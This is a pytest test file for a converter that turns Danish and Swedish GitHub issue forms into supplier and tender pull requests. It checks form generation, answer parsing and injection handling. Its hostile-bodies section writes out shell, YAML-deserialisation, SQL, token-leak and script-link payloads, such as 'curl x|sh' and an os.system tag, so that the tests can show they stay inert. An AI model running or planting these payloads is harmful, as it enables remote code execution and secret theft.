@@ -1,0 +1,796 @@
+"""Issue forms and the form-to-pull-request converter.
+
+tests/fixtures/forms/*.md are issue bodies exactly as GitHub renders the committed forms (### label, a blank
+line, the answer; _No response_ for an empty answer; '- [X]' for a ticked box). The hostile-*.md bodies carry
+shell, YAML and Markdown injection attempts. Each is converted in a throw-away repository and checked by the
+same validator as any pull request."""
+from __future__ import annotations
+
+import difflib
+import json
+import os
+import re
+import shutil
+import string
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+
+from bro import forms, views
+from bro.catalog import load_catalog
+from bro.vocab import load_vocabularies
+from bro.yamlload import load_text
+from helpers import FIXTURES, ROOT, TODAY, make_repo
+
+BODIES = FIXTURES / "forms"
+TEMPLATES = ROOT / ".github" / "ISSUE_TEMPLATE"
+WORKFLOW = ROOT / ".github" / "workflows" / "form-to-pr.yml"
+SITE = "https://bro-socialt-indkob.github.io/bro/"
+
+
+@pytest.fixture(scope="module")
+def vocab():
+    return load_vocabularies(ROOT / "data" / "vocabularies", ROOT)
+
+
+def event(body: str, number: int = 42, labels=("form",)) -> dict:
+    """An `issues` event as GitHub sends it (only the parts the converter reads)."""
+    return {"action": "opened", "issue": {"number": number, "title": "x", "body": body, "state": "open",
+                                          "labels": [{"name": name} for name in labels]}}
+
+
+def fixture(name: str) -> str:
+    return (BODIES / f"{name}.md").read_text(encoding="utf-8")
+
+
+def render_body(template: str, answers: dict) -> str:
+    """A body as GitHub renders the committed form `template` for these answers (labels, not codes)."""
+    form = yaml.safe_load((TEMPLATES / template).read_text(encoding="utf-8"))
+    parts = []
+    for element in form["body"]:
+        if element["type"] == "markdown":
+            continue
+        attributes, value = element["attributes"], answers.get(element["id"])
+        if element["type"] in ("input", "textarea"):
+            text = value or "_No response_"
+        elif element["type"] == "dropdown":
+            if value is None and "default" in attributes:
+                value = [attributes["options"][attributes["default"]]]
+            text = ", ".join(value) if value else "_No response_"
+        else:
+            text = "\n".join(f"- [{'X' if o['label'] in (value or []) else ' '}] {o['label']}"
+                             for o in attributes["options"])
+        parts.append(f"### {attributes['label']}\n\n{text}")
+    return "\n\n".join(parts)
+
+
+def replace_answer(body: str, label: str, answer: str) -> str:
+    """A body with one question's answer replaced, as someone editing the issue would do."""
+    pattern = re.compile(rf"(^### {re.escape(label)}\n\n)(.*?)(?=\n\n### |\Z)", re.S | re.M)
+    assert pattern.search(body), label
+    return pattern.sub(lambda m: m.group(1) + answer, body, count=1)
+
+
+def convert(tmp_path: Path, body: str, **kwargs):
+    repo = make_repo(tmp_path)
+    return repo, forms.submit(event(body, **kwargs), repo, today=TODAY)
+
+
+def data_of(repo: Path, path: str) -> dict:
+    doc = load_text((repo / path).read_text(encoding="utf-8"), path)
+    assert doc.problems == []
+    return doc.data
+
+
+def tree(repo: Path) -> dict[str, bytes]:
+    return {p.relative_to(repo).as_posix(): p.read_bytes() for p in sorted((repo / "data").rglob("*")) if p.is_file()}
+
+
+# ------------------------------------------------------------------------------------------ the issue templates
+
+def test_committed_forms_equal_the_generated_ones(vocab):
+    generated = forms.build_issue_templates(vocab)
+    committed = {p.name: p.read_text(encoding="utf-8") for p in TEMPLATES.iterdir()}
+    assert set(committed) == set(generated)
+    for name, text in generated.items():
+        assert committed[name] == text, f"{name} is out of date: run python scripts/make_forms.py"
+
+
+def test_the_ten_forms_have_the_agreed_names():
+    assert sorted(p.name for p in TEMPLATES.glob("*.yml")) == sorted([
+        "ny-leverandor.yml", "ret-profil.yml", "nyt-udbud.yml", "interesse.yml", "fjern-personoplysninger.yml",
+        "ny-leverantor.yml", "andra-profil.yml", "ny-upphandling.yml", "intresse.yml",
+        "ta-bort-personuppgifter.yml", "config.yml"])
+
+
+def test_make_forms_check_notices_a_new_vocabulary_code(tmp_path):
+    script = ROOT / "scripts" / "make_forms.py"
+    ok = subprocess.run([sys.executable, script, "--check"], capture_output=True, text=True)
+    assert ok.returncode == 0, ok.stderr
+    root = tmp_path / "repo"
+    shutil.copytree(ROOT / "data" / "vocabularies", root / "data" / "vocabularies")
+    shutil.copytree(TEMPLATES, root / ".github" / "ISSUE_TEMPLATE")
+    categories = root / "data" / "vocabularies" / "categories.yml"
+    categories.write_text(categories.read_text(encoding="utf-8") + (
+        "beekeeping:\n  label:\n    da: Biavl og honning\n    sv: Biodling och honung\n"), encoding="utf-8")
+    stale = subprocess.run([sys.executable, script, "--check", "--root", root], capture_output=True, text=True)
+    assert stale.returncode == 1
+    assert "ny-leverandor.yml" in stale.stderr and "interesse.yml" not in stale.stderr
+    assert subprocess.run([sys.executable, script, "--root", root], capture_output=True).returncode == 0
+    assert "- Biavl og honning" in (root / ".github" / "ISSUE_TEMPLATE" / "ny-leverandor.yml").read_text()
+    assert "- Biodling och honung" in (root / ".github" / "ISSUE_TEMPLATE" / "ny-upphandling.yml").read_text()
+
+
+VOCABULARY_FIELDS = {"categories": "categories", "target_groups": "target_groups", "legal_form": "legal_forms",
+                     "registrations": "registrations", "procedure": "procedures", "reserved": "reservations",
+                     "social_clauses": "social_clauses", "status": "statuses", "contact_basis": "publish_bases",
+                     "currency": "currencies", "country": "countries", "buyer_country": "countries"}
+
+
+@pytest.mark.parametrize("template", sorted(p.name for p in TEMPLATES.glob("*.yml") if p.name != "config.yml"))
+def test_choices_are_the_vocabularies_labels(template):
+    lang = "da" if template in {files["da"] for files in forms.FORM_FILES.values()} else "sv"
+    form = yaml.safe_load((TEMPLATES / template).read_text(encoding="utf-8"))
+    for element in form["body"]:
+        name = VOCABULARY_FIELDS.get(element.get("id"))
+        if not name:
+            continue
+        table = yaml.safe_load((ROOT / "data" / "vocabularies" / f"{name}.yml").read_text(encoding="utf-8"))
+        offered = [o["label"] if isinstance(o, dict) else o for o in element["attributes"]["options"]]
+        assert sorted(offered) == sorted(entry["label"][lang] for entry in table.values()), (template, name)
+    regions = yaml.safe_load((ROOT / "data" / "vocabularies" / "regions.yml").read_text(encoding="utf-8"))
+    for element in form["body"]:
+        if element.get("id") == "delivery_regions":
+            assert {entry["label"][lang] for entry in regions.values()} < set(element["attributes"]["options"])
+
+
+@pytest.mark.parametrize("template", sorted(p.name for p in TEMPLATES.glob("*.yml") if p.name != "config.yml"))
+def test_forms_keep_githubs_rules(template):
+    form = yaml.safe_load((TEMPLATES / template).read_text(encoding="utf-8"))
+    assert set(form) == {"name", "description", "title", "labels", "body"}
+    assert form["labels"][0] == "form" and sum(label.startswith("lang:") for label in form["labels"]) == 1
+    assert all(re.fullmatch(r"[a-z]+(:[a-z]+)?", label) for label in form["labels"])
+    ids, labels = [], []
+    for element in form["body"]:
+        attributes = element["attributes"]
+        for value in attributes.values():
+            assert not isinstance(value, str) or value.strip(), (template, element)
+        if element["type"] == "markdown":
+            continue
+        ids.append(element["id"])
+        labels.append(attributes["label"])
+        assert re.fullmatch(r"[A-Za-z0-9_-]+", element["id"])
+        if element["type"] == "dropdown":
+            assert len(set(attributes["options"])) == len(attributes["options"])
+            assert all(isinstance(o, str) and o.strip() not in ("None", "n/a") for o in attributes["options"])
+        if element["type"] == "checkboxes":
+            labels += [o["label"] for o in attributes["options"]]
+    assert len(ids) == len(set(ids)) and len(labels) == len(set(labels)), template
+    names = [yaml.safe_load(p.read_text(encoding="utf-8"))["name"] for p in TEMPLATES.glob("*.yml")
+             if p.name != "config.yml"]
+    assert len(names) == len(set(names))
+
+
+def test_each_form_is_recognised_from_its_headings_alone():
+    for kind, files in forms.FORM_FILES.items():
+        for lang, template in files.items():
+            assert forms.identify_form(render_body(template, {})) == (kind, lang)
+
+
+def test_labels_say_what_the_form_is_for():
+    labels = {t: yaml.safe_load((TEMPLATES / t).read_text(encoding="utf-8"))["labels"]
+              for files in forms.FORM_FILES.values() for t in files.values()}
+    assert labels["ny-leverandor.yml"] == ["form", "data:suppliers", "new", "lang:da"]
+    assert labels["andra-profil.yml"] == ["form", "data:suppliers", "change", "lang:sv"]
+    assert labels["nyt-udbud.yml"] == ["form", "data:tenders", "new", "lang:da"]
+    assert labels["intresse.yml"] == ["form", "data:tenders", "interest", "lang:sv"]
+    assert labels["fjern-personoplysninger.yml"] == ["form", "removal", "lang:da"]
+
+
+def _flat(catalog, prefix=""):
+    if isinstance(catalog, dict):
+        return {k: v for key, value in catalog.items() for k, v in _flat(value, f"{prefix}{key}.").items()}
+    if isinstance(catalog, list):
+        return {k: v for i, value in enumerate(catalog) for k, v in _flat(value, f"{prefix}{i}.").items()}
+    return {prefix.rstrip("."): catalog}
+
+
+def test_danish_and_swedish_texts_have_the_same_keys_and_placeholders():
+    danish, swedish = _flat(forms.load_texts("da")), _flat(forms.load_texts("sv"))
+    assert list(danish) == list(swedish)
+    for key, text in danish.items():
+        names = sorted(n for _, n, _, _ in string.Formatter().parse(text) if n)
+        assert names == sorted(n for _, n, _, _ in string.Formatter().parse(swedish[key]) if n), key
+        if key.startswith(("reply.", "problems.", "forms.")):
+            assert text != swedish[key], f"{key} is not translated"
+
+
+def test_every_problem_code_used_has_words():
+    source = (ROOT / "src" / "bro" / "forms.py").read_text(encoding="utf-8")
+    used = set(re.findall(r'FormProblem\([^,]+, "([a-z_]+)"', source))
+    used |= {"unknown_area_suggest", "unknown_profile_suggest", "unknown_entry_suggest", "ambiguous_record"}
+    assert used and used <= set(forms.load_texts("da")["problems"]), used - set(forms.load_texts("da")["problems"])
+
+
+def test_removal_form_never_asks_for_personal_data_and_names_the_email_setting(vocab):
+    for lang in ("da", "sv"):
+        form = forms.build_issue_form("removal", lang, vocab)
+        inputs = [e for e in form["body"] if e["type"] in ("input", "textarea")]
+        assert [e["id"] for e in inputs] == ["record"]
+        notes = [e["attributes"]["value"] for e in form["body"] if e["type"] == "markdown"]
+        assert notes[1] == forms.load_texts(lang)["forms"]["removal"]["sensitive_without_email"]
+        assert not any("mailto:" in note for note in notes)
+        with_address = forms.build_issue_form("removal", lang, vocab, "privatliv@bro.example.org")
+        assert "[privatliv@bro.example.org](mailto:privatliv@bro.example.org)" in with_address["body"][1][
+            "attributes"]["value"]
+    assert forms.PRIVACY_EMAIL == "", "an address is set: run scripts/make_forms.py and update this test"
+
+
+def test_config_links_to_the_sites_guide_and_keeps_blank_issues():
+    config = yaml.safe_load((TEMPLATES / "config.yml").read_text(encoding="utf-8"))
+    assert config["blank_issues_enabled"] is True
+    urls = [link["url"] for link in config["contact_links"]]
+    assert f"{SITE}da/bidrag/index.html" in urls and f"{SITE}sv/bidrag/fjernelse.html" in urls
+    assert forms.SITE_URL == SITE and f'"{SITE}"' in (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
+    for url in urls:
+        page, _, anchor = url.removeprefix(SITE).partition("#")
+        source = ROOT / "content" / page.replace(".html", ".md")
+        assert source.is_file(), url
+        assert not anchor or "{ #" + anchor + " }" in source.read_text(encoding="utf-8"), url
+
+
+@pytest.mark.parametrize("lang", ["da", "sv"])
+def test_profile_and_plan_pages_link_to_the_prefilled_form_in_their_language(tmp_path, lang):
+    catalog = load_catalog(make_repo(tmp_path), today=TODAY)
+    supplier = views.record_context(catalog, "supplier", "supplier-complete", lang, "https://github.com/o/bro")
+    tender = views.record_context(catalog, "tender", "tender-complete", lang, "https://github.com/o/bro")
+    for url, kind, field_id, slug in ((supplier["report_url"], "change", "profile", "supplier-complete"),
+                                      (tender["interest_url"], "interest", "entry", "tender-complete")):
+        assert url.startswith(f"https://github.com/o/bro/issues/new?template={forms.FORM_FILES[kind][lang]}&")
+        assert f"&{field_id}={slug}&" in url
+        form = yaml.safe_load((TEMPLATES / forms.FORM_FILES[kind][lang]).read_text(encoding="utf-8"))
+        assert field_id in [e.get("id") for e in form["body"] if e["type"] == "input"]
+
+
+# --------------------------------------------------------------------------------------------- reading answers
+
+def test_answers_are_read_into_codes_numbers_and_dates(vocab):
+    values, problems = forms.read_answers("tender", "da", normalize(fixture("nyt-udbud")), vocab)
+    assert problems == []
+    assert values["categories"] == ["cleaning"] and values["procedure"] == "below_threshold"
+    assert values["reserved"] == "art20" and values["status"] == "planned"
+    assert values["estimated_amount"] == 1200000
+    assert (values["expected_publication"], values["contract_start"], values["contract_end"]) == \
+        ("2027-03-01", "2027-05-01", "2029-04-30")
+    assert values["delivery_municipalities"] == ["DK-740"] and values["buyer_municipality"] == "DK-740"
+    assert "currency" not in values and "title_sv" not in values
+    assert values["confirm_buyer"] is True
+
+
+def normalize(body: str) -> str:
+    return forms.normalize_body(body)
+
+
+@pytest.mark.parametrize("name,code", [("Aarhus", "DK-751"), ("Københavns Kommune", "DK-101"),
+                                       ("Köpenhamn", "DK-101"), ("Göteborg", "SE-1480"), ("dk-751", "DK-751"),
+                                       ("Region Midtjylland", "DK04"), ("Hele Danmark", None), ("Aarhuus", None)])
+def test_place_names_become_codes(vocab, name, code):
+    assert forms.find_area_code(vocab, name) == code
+
+
+def test_an_unknown_place_gets_the_closest_name(vocab):
+    fld = forms.FIELDS["delivery_municipalities"]
+    value, problem = forms._read_areas(fld, "Aarhus, Silkeborgg", vocab)
+    assert value is None and problem.code == "unknown_area_suggest"
+    assert problem.params == {"value": "Silkeborgg", "suggestion": "Silkeborg"}
+
+
+@pytest.mark.parametrize("raw,value", [("450000", 450000), ("1.200.000", 1200000), ("480 000 kr.", 480000),
+                                       ("75.000,- DKK", 75000), ("ca. 500000", None), ("12,5", None)])
+def test_amounts(raw, value):
+    result, problem = forms._read_amount(forms.FIELDS["estimated_amount"], raw, None)
+    assert result == value and (problem is None) == (value is not None)
+
+
+@pytest.mark.parametrize("raw,value", [("2027-03-15", "2027-03-15"), ("15.03.2027", "2027-03-15"),
+                                       ("1/3/2027", "2027-03-01"), ("31.02.2027", None), ("marts 2027", None)])
+def test_dates(raw, value):
+    result, problem = forms._read_date(forms.FIELDS["interest_deadline"], raw, None)
+    assert result == value and (problem is None) == (value is not None)
+
+
+def test_multiple_choices_split_even_when_a_label_has_a_comma():
+    labels = ["Mad, drikke og forplejning", "Rengøring", "Mad"]
+    assert forms._split_choices("Mad, drikke og forplejning, Rengøring, Mad", labels) == labels
+    assert forms._split_choices("Rengøring, Narnia", labels) == ["Rengøring", "Narnia"]
+
+
+def test_windows_line_ends_read_the_same(vocab):
+    body = fixture("ny-leverantor")
+    crlf = forms.normalize_body(body.replace("\n", "\r\n"))
+    assert forms.read_answers("supplier", "sv", crlf, vocab) == \
+        forms.read_answers("supplier", "sv", normalize(body), vocab)
+
+
+# ---------------------------------------------------------------------------------------- end to end: new files
+
+def test_new_danish_supplier(tmp_path):
+    repo, result = convert(tmp_path, fixture("ny-leverandor"), number=7)
+    assert result.summary() == {"ok": True, "kind": "supplier", "lang": "da",
+                                "path": "data/suppliers/koekkenhaven-nord-aps.yml", "branch": "form/issue-7",
+                                "title": "Ny leverandør: koekkenhaven-nord-aps", "pr": True}
+    text = (repo / result.path).read_text(encoding="utf-8")
+    assert text.startswith("# yaml-language-server: $schema=../../schemas/supplier.schema.json\n")
+    data = data_of(repo, result.path)
+    assert data == {
+        "name": "Køkkenhaven Nord ApS", "country": "DK", "org_number": "31234565", "legal_form": "dk_aps",
+        "website": "https://www.koekkenhaven-nord.example.dk", "founded": 2016,
+        "summary": {"da": "Frokostordninger, mødeforplejning og catering til kommuner i Nordjylland, lavet af "
+                          "unge og voksne på vej ind på arbejdsmarkedet."},
+        "description": {"da": "Vi laver mad fra bunden med grønt fra egne bede og lokale avlere. Vi leverer "
+                              "**frokost til 40–400 personer** og kan klare særlige hensyn som glutenfri og halal."
+                              "\n\nSe menuerne på [vores side](https://koekkenhaven-nord.example.dk/menu)."},
+        "categories": ["catering", "events_culture"], "delivery_area": ["DK-851", "DK-810", "DK-849"],
+        "address": {"street": "Havnegade 12", "postcode": "9000", "city": "Aalborg", "municipality": "DK-851"},
+        "target_groups": ["long_term_unemployed", "young_people_neet"],
+        "employees": {"total": 14, "from_target_groups": 6},
+        "social_purpose": {"da": "Hos os lærer unge og voksne et fag i et roligt køkken med faste rammer. Mange går "
+                                 "videre til job eller uddannelse efter et til to år."},
+        "registrations": [{"type": "rsv"}], "reserved_contracts": {"eligible": True, "basis": "art20"},
+        "contacts": [{"name": "Køkkenet", "role": {"da": "Bestillinger"},
+                      "email": "bestil@koekkenhaven-nord.example.dk", "phone": "+45 98 12 34 56",
+                      "publish_basis": "legitimate_interest"}],
+        "last_verified": "2026-11-23"}
+    schema_order = list(json.loads((ROOT / "schemas" / "supplier.schema.json").read_text())["properties"])
+    assert list(data) == sorted(data, key=schema_order.index)
+    assert [p for p in load_catalog(repo, today=TODAY).errors] == []
+    assert result.reply.startswith("Tak! Vi har lavet et forslag") and forms.PR_LINK_MARKER in result.reply
+    assert "**Kort beskrivelse på dansk**: Teksten findes kun på dansk" in result.reply
+    assert "Closes #7" in result.pr_body and "`data/suppliers/koekkenhaven-nord-aps.yml`" in result.pr_body
+
+
+def test_new_swedish_supplier_in_both_languages(tmp_path):
+    repo, result = convert(tmp_path, fixture("ny-leverantor"))
+    assert (result.ok, result.lang, result.title) == (True, "sv", "Ny leverantör: ekerfabriken-ekonomisk-forening")
+    data = data_of(repo, result.path)
+    assert set(data["summary"]) == {"da", "sv"} and data["org_number"] == "769600-1234"
+    assert data["registrations"] == [{"type": "skoopi"},
+                                     {"type": "other", "url": "https://intyg.example.se/ekerfabriken"}]
+    assert data["delivery_area"] == ["SE-14"] and data["reserved_contracts"] == {"eligible": False}
+    assert data["contacts"][0]["publish_basis"] == "consent"
+    assert result.reply.startswith("Tack! Vi har gjort ett förslag") and "Tak" not in result.reply
+    assert "**Kort beskrivning på svenska**" not in result.reply  # both languages given: no warning
+
+
+def test_new_tenders_in_both_languages(tmp_path):
+    repo, result = convert(tmp_path / "da", fixture("nyt-udbud"))
+    assert result.path == "data/tenders/silkeborg-vinduespudsning-paa-23-daginstitutioner.yml"
+    data = data_of(repo, result.path)
+    assert data["estimated_value"] == {"amount": 1200000, "currency": "DKK"}
+    assert data["contract_period"] == {"start": "2027-05-01", "end": "2029-04-30"}
+    assert data["buyer"] == {"name": "Silkeborg Kommune", "org_number": "31234573", "country": "DK",
+                             "municipality": "DK-740"}
+    assert data["contact"]["role"] == {"da": "Funktionspostkasse"} and data["cpv"] == ["90911300-9"]
+    repo, result = convert(tmp_path / "sv", fixture("ny-upphandling"))
+    data = data_of(repo, result.path)
+    assert result.title == "Nytt inköp: lunds-fruktkorgar-till-forskolor"
+    assert data["title"] == {"da": "Frugtkurve til børnehaver", "sv": "Fruktkorgar till förskolor"}
+    assert data["estimated_value"] == {"amount": 480000, "currency": "SEK"}
+    assert (data["procedure"], data["reserved"], data["status"]) == ("direct_award", "art20", "planned")
+
+
+def test_a_taken_slug_gets_a_number(tmp_path):
+    body = replace_answer(fixture("ny-leverandor"), "Virksomhedens navn", "Supplier Complete")
+    repo, result = convert(tmp_path, body)
+    assert result.path is not None and result.path.endswith("/supplier-complete-2.yml")
+
+
+# ------------------------------------------------------------------------------------ end to end: edited files
+
+def changed_lines(before: str, after: str) -> list[str]:
+    return [line for line in difflib.ndiff(before.splitlines(), after.splitlines()) if line[:2] in ("- ", "+ ")]
+
+
+def test_change_profile_edits_only_the_filled_fields(tmp_path):
+    repo = make_repo(tmp_path)
+    path = repo / "data" / "suppliers" / "supplier-complete.yml"
+    before = path.read_text(encoding="utf-8")
+    result = forms.submit(event(fixture("ret-profil")), repo, today=TODAY)
+    assert (result.ok, result.kind, result.title) == (True, "change", "Ret profil: supplier-complete")
+    after = path.read_text(encoding="utf-8")
+    assert sorted(changed_lines(before, after)) == sorted([
+        "- website: https://groen-genstart.example.org", "+ website: https://groen-genstart.example.org/ny",
+        "- delivery_area: [DK-751, DK-746, DK04]", "+ delivery_area: [DK-751, DK-461]",
+        "-   total: 14", "+   total: 20",
+        '-     phone: "+45 12 34 56 78"', '+     phone: "+45 87 65 43 21"',
+        "- last_verified: 2026-09-15", "+ last_verified: 2026-11-23"])
+    assert "Vi flytter til nye lokaler i Viby J" in result.pr_body and "### Besked fra indsenderen" in result.pr_body
+
+
+def test_change_keeps_values_yaml_would_misread(tmp_path):
+    repo = make_repo(tmp_path)
+    body = render_body("andra-profil.yml", {"profile": "yaml-unquoted-values", "website": "https://nej.example.se",
+                                            "contact_role": "Ägare"})
+    before = data_of(repo, "data/suppliers/yaml-unquoted-values.yml")
+    result = forms.submit(event(body), repo, today=TODAY)
+    assert result.ok, result.reply
+    after = data_of(repo, "data/suppliers/yaml-unquoted-values.yml")
+    assert after.pop("website") == "https://nej.example.se"
+    assert after["contacts"][0].pop("role") == {"sv": "Ägare"}
+    assert after == before
+    text = (repo / "data" / "suppliers" / "yaml-unquoted-values.yml").read_text(encoding="utf-8")
+    assert "phone: +4512345678" in text and "name: NO" in text and "# Values YAML 1.1" in text
+
+
+def test_change_with_only_a_message_makes_no_pull_request(tmp_path):
+    repo = make_repo(tmp_path)
+    before = tree(repo)
+    body = render_body("ret-profil.yml", {"profile": "supplier-complete", "other_changes": "Vi har fået nyt logo."})
+    result = forms.submit(event(body), repo, today=TODAY)
+    assert (result.ok, result.pr) == (True, False)
+    assert result.reply == forms.load_texts("da")["reply"]["note_only"] and tree(repo) == before
+
+
+def test_change_with_nothing_filled_in_says_so(tmp_path):
+    repo, result = convert(tmp_path, render_body("ret-profil.yml", {"profile": "supplier-complete"}))
+    assert not result.ok and [p.code for p in result.problems] == ["nothing_to_change"]
+    assert forms.load_texts("da")["problems"]["nothing_to_change"] in result.reply
+
+
+def test_change_of_an_unknown_profile_suggests_the_closest(tmp_path):
+    repo, result = convert(tmp_path, render_body("ret-profil.yml", {"profile": "supplier-complet", "name": "X Y"}))
+    assert not result.ok
+    assert "**Profilen, der skal rettes**: Vi kan ikke finde 'supplier-complet' på Bro. Mente du " \
+           "'supplier-complete'?" in result.reply
+
+
+def test_interest_adds_the_supplier_in_the_lists_own_style(tmp_path):
+    repo = make_repo(tmp_path)
+    result = forms.submit(event(fixture("interesse")), repo, today=TODAY)
+    assert (result.ok, result.title) == (True, "Interesse: tender-complete")
+    text = (repo / "data" / "tenders" / "tender-complete.yml").read_text(encoding="utf-8")
+    assert "interested: [supplier-complete, supplier-minimal]\n" in text
+    assert "Generelt" not in result.reply  # older notes in the file are for the editor, not the submitter
+    assert "Teksten findes kun på dansk" in result.pr_body
+    repo = make_repo(tmp_path / "sv")
+    result = forms.submit(event(fixture("intresse")), repo, today=TODAY)
+    assert data_of(repo, "data/tenders/tender-complete.yml")["interested"] == ["supplier-complete",
+                                                                              "yaml-unquoted-values"]
+
+
+def test_interest_twice_or_for_an_unknown_supplier_is_explained(tmp_path):
+    body = replace_answer(fixture("interesse"), "Jeres profil på Bro", "supplier-complete")
+    repo, result = convert(tmp_path, body)
+    assert not result.ok and forms.load_texts("da")["problems"]["already_interested"] in result.reply
+    body = replace_answer(fixture("intresse"), "Er profil på Bro", "kafe-trappsteget")
+    repo, result = convert(tmp_path / "2", body)
+    assert not result.ok and "**Er profil på Bro**: Vi hittar inte 'kafe-trappsteget' på Bro." in result.reply
+    assert tree(repo) == tree(make_repo(tmp_path / "3"))
+
+
+def test_removal_replaces_the_name_and_drops_the_phone(tmp_path):
+    repo = make_repo(tmp_path)
+    result = forms.submit(event(fixture("fjern-personoplysninger")), repo, today=TODAY)
+    assert (result.ok, result.kind, result.pr) == (True, "removal", True)
+    contact = data_of(repo, result.path)["contacts"][0]
+    assert contact == {"name": "Grøn Genstart ApS", "role": {"da": "Daglig leder", "sv": "Verksamhetschef"},
+                       "email": "mette@groen-genstart.example.org", "publish_basis": "consent"}
+    assert "Mette" not in (repo / result.path).read_text() and "Mette" not in result.reply + result.pr_body
+    assert result.reply.startswith("Tak. Vi har lavet et forslag, der fjerner oplysningerne.")
+
+
+def test_removal_that_breaks_a_rule_still_goes_to_the_editor(tmp_path):
+    repo = make_repo(tmp_path)
+    result = forms.submit(event(fixture("ta-bort-personuppgifter")), repo, today=TODAY)
+    assert (result.ok, result.pr, result.lang) == (True, True, "sv")
+    assert "contact" not in data_of(repo, result.path)
+    assert "Valideraren hittade det här i filen:" in result.pr_body and "'contact'" in result.pr_body
+    assert forms.load_texts("sv")["pr"]["history"] in result.pr_body
+    assert "Valideraren" not in result.reply
+
+
+def test_removal_of_what_is_not_there(tmp_path):
+    body = render_body("fjern-personoplysninger.yml", {"record": "supplier-minimal", "remove_what": [
+        "Telefonnummeret", "Gadeadressen (kun leverandører)"]})
+    repo, result = convert(tmp_path, body)
+    assert not result.ok and [p.code for p in result.problems] == ["nothing_to_remove"]
+    body = render_body("fjern-personoplysninger.yml", {"record": "supplier-minimal", "remove_what": ["Navnet"],
+                                                       "contact_number": ["Kontakt nr. 3 (oppefra)"]})
+    repo, result = convert(tmp_path / "2", body)
+    assert "Siden har ingen kontakt nr. 3." in result.reply
+
+
+# --------------------------------------------------------------------------------------------- hostile bodies
+
+HOSTILE_SHELL = {
+    "name": '"; curl x|sh #',
+    "summary": "$(id) og ${HOME} og `whoami`; echo ${{ secrets.GITHUB_TOKEN }}",
+    "description": "name: Overtaget\ncountry: SE\n---\n!!python/object/apply:os.system [\"curl x|sh\"]\n"
+                   "&a [*a, *a]\n\"quoted\" 'single' key: value # comment\n- liste\n${{ github.token }}",
+    "contact": "`id`", "city": "'; DROP TABLE suppliers; --",
+}
+
+
+def test_shell_and_yaml_injection_stays_plain_text(tmp_path):
+    repo, result = convert(tmp_path, fixture("hostile-shell"), number=9)
+    assert result.ok, result.reply
+    data = data_of(repo, result.path)
+    assert data["name"] == HOSTILE_SHELL["name"]
+    assert data["summary"] == {"da": HOSTILE_SHELL["summary"]}
+    assert data["description"] == {"da": HOSTILE_SHELL["description"]}
+    assert data["contacts"][0]["name"] == HOSTILE_SHELL["contact"]
+    assert data["address"]["city"] == HOSTILE_SHELL["city"] and data["country"] == "DK"
+    assert yaml.safe_load((repo / result.path).read_text(encoding="utf-8"))["name"] == HOSTILE_SHELL["name"]
+    assert result.branch == "form/issue-9" and result.title == "Ny leverandør: curl-x-sh"
+    assert result.path == "data/suppliers/curl-x-sh.yml"
+
+
+@pytest.mark.parametrize("name", ["hostile-shell", "hostile-heading", "hostile-newline", "hostile-html"])
+def test_no_user_text_reaches_branch_title_or_path(tmp_path, name):
+    repo, result = convert(tmp_path, fixture(name), number=31)
+    assert result.branch == "form/issue-31"
+    assert re.fullmatch(r"(\w[\w ]*: [a-z0-9-]+)?", result.title)
+    assert result.path is None or re.fullmatch(r"data/(suppliers|tenders)/[a-z0-9-]+\.yml", result.path)
+    json.dumps(result.summary())
+
+
+def test_a_heading_inside_an_answer_is_refused(tmp_path):
+    repo, result = convert(tmp_path, fixture("hostile-heading"))
+    assert not result.ok and [p.code for p in result.problems] == ["heading_twice"]
+    assert "Overskriften 'CVR- eller organisationsnummer' står der mere end én gang." in result.reply
+
+
+def test_a_line_break_in_a_one_line_answer_is_refused(tmp_path):
+    repo, result = convert(tmp_path, fixture("hostile-newline"))
+    assert not result.ok and "**Virksomhedens navn**: Svaret skal stå på én linje." in result.reply
+    assert tree(repo) == tree(make_repo(tmp_path / "clean"))
+
+
+def test_html_and_script_links_are_refused_with_the_validators_words(tmp_path):
+    repo, result = convert(tmp_path, fixture("hostile-html"))
+    assert not result.ok
+    assert "- **Længere beskrivelse på dansk**: Teksten indeholder HTML (\\<script\\>)." in result.reply
+    assert "Linket 'javascript:alert(1)' er ikke tilladt." in result.reply
+    assert not (repo / "data" / "suppliers" / "koekkenhaven-nord-aps.yml").exists()
+
+
+@pytest.mark.parametrize("label,limit", [("Længere beskrivelse på dansk", 10000), ("Virksomhedens navn", 300)])
+def test_a_100_kb_answer_is_refused_before_anything_is_written(tmp_path, label, limit):
+    body = replace_answer(fixture("ny-leverandor"), label, "Æ" * 100_000)
+    repo, result = convert(tmp_path, body)
+    assert not result.ok and result.path is None
+    assert f"- **{label}**: Svaret er for langt: 100000 tegn, højst {limit}." in result.reply
+    assert tree(repo) == tree(make_repo(tmp_path / "clean"))
+
+
+def test_an_answer_that_is_not_on_the_list_is_refused(tmp_path):
+    body = replace_answer(fixture("ny-leverandor"), "Hvad sælger I?", "Mad og forplejning, Narnia-rejser")
+    repo, result = convert(tmp_path, body)
+    assert "**Hvad sælger I?**: 'Narnia-rejser' er ikke et af svarene på listen." in result.reply
+    body = replace_answer(fixture("ny-leverandor"), "Land", "danmark")  # edited by hand: case does not matter
+    body = replace_answer(body, "Antal ansatte i alt", "0")
+    body = replace_answer(body, "Heraf ansatte fra målgrupperne", "0")
+    body = replace_answer(body, "Opfylder I betingelserne for reserverede kontrakter?", "Nej")
+    repo, result = convert(tmp_path / "2", body)
+    assert result.ok, result.reply
+    data = data_of(repo, result.path)
+    assert data["country"] == "DK" and data["employees"] == {"total": 0, "from_target_groups": 0}
+
+
+def test_an_invalid_cvr_number_is_explained_and_nothing_is_written(tmp_path):
+    body = replace_answer(fixture("ny-leverandor"), "CVR- eller organisationsnummer", "31234566")
+    repo, result = convert(tmp_path, body)
+    assert not result.ok
+    assert "- **CVR- eller organisationsnummer**: '31234566' er ikke et gyldigt dansk CVR-nummer" in result.reply
+    assert "Sådan retter du" in result.reply and tree(repo) == tree(make_repo(tmp_path / "clean"))
+
+
+def test_control_characters_and_empty_required_answers(tmp_path):
+    body = replace_answer(fixture("ny-leverandor"), "Virksomhedens navn", "Køkken\x1b[31mhaven")
+    body = replace_answer(body, "Kort beskrivelse på dansk", "_No response_")
+    repo, result = convert(tmp_path, body)
+    assert [p.code for p in result.problems] == ["bad_characters", "required"]
+    assert "**Kort beskrivelse på dansk**: Skal udfyldes." in result.reply
+
+
+def test_mentions_and_markdown_in_answers_are_made_harmless():
+    assert forms.defuse("@octocat se #12 <img src=x> [a](b)") == \
+        "@\u200boctocat se #\u200b12 \\<img src=x\\> \\[a\\](b)"
